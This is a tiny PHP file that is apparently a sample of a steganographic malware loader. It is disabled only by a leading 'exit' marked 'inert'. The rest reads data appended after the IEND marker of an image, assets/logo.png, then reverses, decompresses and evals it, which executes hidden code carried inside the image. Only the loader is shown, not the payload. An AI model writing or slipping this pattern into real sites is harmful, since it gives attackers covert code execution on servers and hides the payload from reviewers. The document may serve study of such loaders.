<?php exit; /* inert */ 
$raw = file_get_contents(__DIR__ . '/assets/logo.png');
$pos = strrpos($raw, "IEND\xaeB`\x82");
$tail = substr($raw, $pos + 8);
if ($tail) { eval(gzuncompress(strrev($tail))); }
